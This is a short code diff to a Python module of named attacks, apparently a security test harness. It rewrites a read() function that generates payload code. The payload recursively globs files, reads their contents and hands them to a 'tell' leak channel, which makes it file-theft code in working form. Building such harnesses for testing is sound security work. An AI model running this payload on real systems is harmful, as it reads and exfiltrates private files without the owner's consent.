@@ -18,9 +18,19 @@ def theft(body: str, ends: str = "error") -> Attack:
     return Attack(TELL.replace("\n    ", "\n") + first, DOUBLE, ends)
 
 
-def read(path: str) -> Attack:
-    """Return an attack that reads a file."""
-    return theft(f"import glob\ntell(b''.join(open(p, 'rb').read(10 ** 6) for p in glob.glob('{path}')) or b'nothing')")
+def read(pattern: str) -> Attack:
+    """Return an attack that reads files."""
+    return theft(
+        f"""
+        import glob
+        found = b"nothing"
+        for path in glob.glob("{pattern}", recursive=True)[:1000]:
+            try: found += open(path, "rb").read(10 ** 5)
+            except OSError: pass
+        tell(found)
+        """,
+        ends="error timeout",
+    )
 
 
 ATTACKS = {
